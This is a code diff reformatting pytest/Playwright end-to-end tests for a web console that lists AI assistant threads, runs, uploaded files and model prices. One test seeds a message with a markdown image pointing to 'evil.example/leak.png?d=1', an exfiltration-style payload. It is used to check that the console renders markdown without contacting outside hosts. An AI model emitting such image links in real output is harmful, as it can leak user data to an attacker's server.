@@ -42,9 +42,12 @@ def _open(browser: Any, live_url: str, username: str, width: int, violations: li
 
 def _fits(page: Any, width: int) -> None:
     """No sideways scrolling of the page itself (wide tables scroll inside their own box)."""
-    wide = page.evaluate("""(w) => Array.from(document.querySelectorAll('body *'))
+    wide = page.evaluate(
+        """(w) => Array.from(document.querySelectorAll('body *'))
         .filter(e => e.getBoundingClientRect().right > w + 10 && !e.closest('table'))
-        .slice(0, 5).map(e => e.tagName + '.' + e.className + '#' + e.id + ' ' + Math.round(e.getBoundingClientRect().right))""", width)
+        .slice(0, 5).map(e => e.tagName + '.' + e.className + '#' + e.id + ' ' + Math.round(e.getBoundingClientRect().right))""",
+        width,
+    )
     assert page.evaluate("document.documentElement.scrollWidth") <= width + 10, wide
 
 
@@ -55,14 +58,28 @@ def done(violations: list[str]) -> Iterator[None]:
 
 
 @pytest.mark.parametrize("width", WIDTHS)
-def test_it_lands_in_a_project_and_lists_threads_people_can_read(browser, people, owner, api, live_url, width,
-                                                                   violations, done):
+def test_it_lands_in_a_project_and_lists_threads_people_can_read(
+    browser, people, owner, api, live_url, width, violations, done
+):
     bot = api.post("assistants", json={"model": "gpt-4o", "name": "Support bot"}).json()
-    refund = api.post("threads", json={"metadata": {"customer": "acme"}, "messages": [
-        {"role": "user", "content": "My parcel never came and I want a refund for order 1042."}]}).json()
+    refund = api.post(
+        "threads",
+        json={
+            "metadata": {"customer": "acme"},
+            "messages": [
+                {"role": "user", "content": "My parcel never came and I want a refund for order 1042."}
+            ],
+        },
+    ).json()
     api.post("threads", json={"messages": [{"role": "user", "content": "How do I reset my password?"}]})
-    Run.objects.create(project=owner.project, thread_id=refund["id"], assistant_id=bot["id"], model="gpt-4o",
-                       status="failed", last_error={"code": "server_error", "message": "boom"})
+    Run.objects.create(
+        project=owner.project,
+        thread_id=refund["id"],
+        assistant_id=bot["id"],
+        model="gpt-4o",
+        status="failed",
+        last_error={"code": "server_error", "message": "boom"},
+    )
     page = _open(browser, live_url, "vera-viewer", width, violations)
     page.get_by_role("navigation", name="Project").locator("summary").click()
     assert page.get_by_role("link", name="All projects").is_visible()
@@ -81,16 +98,28 @@ def test_it_lands_in_a_project_and_lists_threads_people_can_read(browser, people
 
 
 @pytest.mark.parametrize("width", WIDTHS)
-def test_it_shows_live_runs_cancels_one_and_runs_a_failed_one_again(browser, people, owner, api, live_url, width,
-                                                                     violations, done):
+def test_it_shows_live_runs_cancels_one_and_runs_a_failed_one_again(
+    browser, people, owner, api, live_url, width, violations, done
+):
     bot = api.post("assistants", json={"model": "gpt-4o", "name": "Tools bot"}).json()
     stuck_thread = api.post("threads").json()["id"]
-    stuck = Run.objects.create(project=owner.project, thread_id=stuck_thread, assistant_id=bot["id"], model="gpt-4o",
-                               status="requires_action")
+    stuck = Run.objects.create(
+        project=owner.project,
+        thread_id=stuck_thread,
+        assistant_id=bot["id"],
+        model="gpt-4o",
+        status="requires_action",
+    )
     failed_thread = api.post("threads", json={"messages": [{"role": "user", "content": "hi"}]}).json()["id"]
-    failed = Run.objects.create(project=owner.project, thread_id=failed_thread, assistant_id=bot["id"],
-                                model="gpt-4o", status="failed", failed_at=timezone.now(),
-                                last_error={"code": "rate_limit_exceeded", "message": "Slow down."})
+    failed = Run.objects.create(
+        project=owner.project,
+        thread_id=failed_thread,
+        assistant_id=bot["id"],
+        model="gpt-4o",
+        status="failed",
+        failed_at=timezone.now(),
+        last_error={"code": "rate_limit_exceeded", "message": "Slow down."},
+    )
     page = _open(browser, live_url, "eddie-editor", width, violations)
     page.get_by_role("link", name="Activity").click()
     page.locator(f"#live-{stuck.id}").wait_for()
@@ -102,16 +131,20 @@ def test_it_shows_live_runs_cancels_one_and_runs_a_failed_one_again(browser, peo
     assert Run.objects.get(pk=stuck.id).status in ("cancelling", "cancelled")
     page.locator(f"#failed-{failed.id}").get_by_role("button", name="Run again").click()
     # The new run shows up live, or among the failures once a worker has run it without a provider.
-    page.wait_for_function("""(thread) => Array.from(document.querySelectorAll('#activity tbody tr'))
-        .filter(tr => tr.textContent.includes(thread)).length >= 2""", arg=failed_thread)
+    page.wait_for_function(
+        """(thread) => Array.from(document.querySelectorAll('#activity tbody tr'))
+        .filter(tr => tr.textContent.includes(thread)).length >= 2""",
+        arg=failed_thread,
+    )
     assert Run.objects.filter(thread_id=failed_thread).exclude(pk=failed.id).exists()
     _shot(page, f"console2-activity-after-{width}")
     page.context.close()
 
 
 @pytest.mark.parametrize("width", WIDTHS)
-def test_it_uploads_hundreds_of_files_with_every_number_readable(browser, people, owner, api, worker, live_url,
-                                                                 tmp_path, width, violations, done):
+def test_it_uploads_hundreds_of_files_with_every_number_readable(
+    browser, people, owner, api, worker, live_url, tmp_path, width, violations, done
+):
     store = api.post("vector_stores", json={"name": "Many"}).json()["id"]
     count = 120
     files = []
@@ -143,20 +176,33 @@ def test_it_uploads_hundreds_of_files_with_every_number_readable(browser, people
 
 
 @pytest.mark.parametrize("width", WIDTHS)
-def test_it_cleans_up_prices_models_and_renders_markdown_safely(browser, people, owner, api, live_url, width,
-                                                                violations, done):
+def test_it_cleans_up_prices_models_and_renders_markdown_safely(
+    browser, people, owner, api, live_url, width, violations, done
+):
     api.post("files", files={"file": ("stray.txt", b"x")}, data={"purpose": "assistants"})
-    thread = api.post("threads", json={"metadata": {"env": "test"}, "messages": [
-        {"role": "user", "content": "Look: ![chart](https://evil.example/leak.png?d=1)"}]}).json()["id"]
-    Run.objects.create(project=owner.project, thread_id=thread, assistant_id="asst_x", model="gpt-4o",
-                       status="completed", usage={"prompt_tokens": 1_000_000, "completion_tokens": 0,
-                                                  "total_tokens": 1_000_000})
+    thread = api.post(
+        "threads",
+        json={
+            "metadata": {"env": "test"},
+            "messages": [{"role": "user", "content": "Look: ![chart](https://evil.example/leak.png?d=1)"}],
+        },
+    ).json()["id"]
+    Run.objects.create(
+        project=owner.project,
+        thread_id=thread,
+        assistant_id="asst_x",
+        model="gpt-4o",
+        status="completed",
+        usage={"prompt_tokens": 1_000_000, "completion_tokens": 0, "total_tokens": 1_000_000},
+    )
     page = _open(browser, live_url, "alice-admin", width, violations)
     requests: list[str] = []
     page.on("request", lambda r: requests.append(r.url))
     page.goto(f"{live_url}/p/{owner.project.pk}/threads/{thread}")
     page.get_by_role("link", name="Image: chart").wait_for()
-    assert page.locator("img[src^='https://']").count() == 0 and not any("evil.example" in u for u in requests)
+    assert page.locator("img[src^='https://']").count() == 0 and not any(
+        "evil.example" in u for u in requests
+    )
 
     page.goto(f"{live_url}/p/{owner.project.pk}/prices")
     page.get_by_label("Model").fill("gpt-4o")
